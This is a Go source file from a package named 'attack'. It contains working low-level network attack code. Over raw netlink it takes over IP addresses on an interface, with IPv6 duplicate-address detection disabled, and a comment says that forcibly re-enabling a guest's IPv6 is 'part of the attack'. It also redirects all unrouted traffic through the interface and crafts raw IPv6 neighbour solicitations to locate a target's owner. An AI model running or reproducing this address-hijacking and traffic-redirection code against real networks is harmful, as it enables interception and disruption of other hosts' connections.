package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"

	"golang.org/x/sys/unix"
)

// take adds an address to the NIC through rtnetlink, IPv6 without duplicate detection.
func take(nic, address string) (string, error) {
	p, err := netip.ParsePrefix(address)
	if err != nil {
		return "", err
	}
	i, err := net.InterfaceByName(nic)
	if err != nil {
		return "", err
	}
	family, flags := byte(unix.AF_INET), byte(0)
	if p.Addr().Is6() {
		family, flags = unix.AF_INET6, unix.IFA_F_NODAD
		// A guest whose IPv6 is off turns it on: that is part of the attack.
		_ = os.WriteFile("/proc/sys/net/ipv6/conf/"+nic+"/disable_ipv6", []byte("0"), 0)
	}
	body := []byte{family, byte(p.Bits()), flags, unix.RT_SCOPE_UNIVERSE}
	body = binary.NativeEndian.AppendUint32(body, uint32(i.Index))
	body = attribute(body, unix.IFA_LOCAL, p.Addr().AsSlice())
	body = attribute(body, unix.IFA_ADDRESS, p.Addr().AsSlice())
	err = netlink(unix.RTM_NEWADDR, unix.NLM_F_CREATE|unix.NLM_F_EXCL, body)
	if errors.Is(err, unix.EEXIST) {
		return "already mine", nil
	}
	return "taken", err
}

// route sends everything that has no better way out of the NIC, IPv4 and IPv6.
func route(nic string) (string, error) {
	i, err := net.InterfaceByName(nic)
	if err != nil {
		return "", err
	}
	index := binary.NativeEndian.AppendUint32(nil, uint32(i.Index))
	for _, family := range []byte{unix.AF_INET, unix.AF_INET6} {
		body := []byte{family, 0, 0, 0, unix.RT_TABLE_MAIN, unix.RTPROT_STATIC, unix.RT_SCOPE_LINK, unix.RTN_UNICAST, 0, 0, 0, 0}
		if family == unix.AF_INET6 {
			body[6] = unix.RT_SCOPE_UNIVERSE
		}
		body = attribute(body, unix.RTA_OIF, index)
		err := netlink(unix.RTM_NEWROUTE, unix.NLM_F_CREATE|unix.NLM_F_REPLACE, body)
		if err != nil && family == unix.AF_INET {
			return "", err
		}
	}
	return "everything goes to " + nic, nil
}

func attribute(body []byte, kind uint16, value []byte) []byte {
	body = binary.NativeEndian.AppendUint16(body, uint16(4+len(value)))
	body = binary.NativeEndian.AppendUint16(body, kind)
	body = append(body, value...)
	for len(body)%4 != 0 {
		body = append(body, 0)
	}
	return body
}

// netlink sends one request and reads its acknowledgement.
func netlink(kind, flags uint16, body []byte) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	m := binary.NativeEndian.AppendUint32(nil, uint32(16+len(body)))
	m = binary.NativeEndian.AppendUint16(m, kind)
	m = binary.NativeEndian.AppendUint16(m, flags|unix.NLM_F_REQUEST|unix.NLM_F_ACK)
	m = append(binary.NativeEndian.AppendUint32(m, 1), 0, 0, 0, 0)
	if err := unix.Sendto(fd, append(m, body...), 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil {
		return err
	}
	if n < 20 || binary.NativeEndian.Uint16(answer[4:]) != unix.NLMSG_ERROR {
		return fmt.Errorf("netlink answered with %d bytes and no acknowledgement", n)
	}
	if code := int32(binary.NativeEndian.Uint32(answer[16:])); code != 0 {
		return unix.Errno(-code)
	}
	return nil
}

// neighbour asks who has an IPv6 address, by multicast, from the NIC's own link-local address.
func neighbour(ctx context.Context, nic, target string) (string, error) {
	to, err := netip.ParseAddr(target)
	if err != nil || !to.Is6() {
		return "", fmt.Errorf("no IPv6 address: %q", target)
	}
	to = to.WithZone("")
	w, err := open(nic)
	if err != nil {
		return "", err
	}
	defer w.file.Close()
	from, tail := linkLocal(w.nic.HardwareAddr), to.As16()
	group := netip.AddrFrom16([16]byte{0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0xff, tail[13], tail[14], tail[15]})
	ask := append(append([]byte{135, 0, 0, 0, 0, 0, 0, 0}, to.AsSlice()...), 1, 1)
	ask = append(ask, w.nic.HardwareAddr...)
	pseudo := append(append(from.AsSlice(), group.AsSlice()...), 0, 0, 0, byte(len(ask)), 0, 0, 0, 58)
	binary.BigEndian.PutUint16(ask[2:], checksum(pseudo, ask))
	packet := append([]byte{0x60, 0, 0, 0, 0, byte(len(ask)), 58, 255}, append(from.AsSlice(), group.AsSlice()...)...)
	frame := ethernet([]byte{0x33, 0x33, 0xff, tail[13], tail[14], tail[15]}, w.nic.HardwareAddr, 0x86dd, append(packet, ask...))
	for range 3 {
		if _, err := w.file.Write(frame); err != nil {
			return "", err
		}
		var owner net.HardwareAddr
		found, err := w.wait(ctx, patience/3, func(f []byte) bool {
			if len(f) < 78 || binary.BigEndian.Uint16(f[12:]) != 0x86dd || f[54] != 136 || netip.AddrFrom16([16]byte(f[62:78])) != to {
				return false
			}
			owner = net.HardwareAddr(append([]byte{}, f[6:12]...))
			return true
		})
		if found || err != nil {
			return "answered by " + owner.String(), err
		}
	}
	return "", nil
}

// linkLocal is the EUI-64 link-local address of a MAC.
func linkLocal(mac net.HardwareAddr) netip.Addr {
	return netip.AddrFrom16([16]byte{0xfe, 0x80, 0, 0, 0, 0, 0, 0, mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]})
}
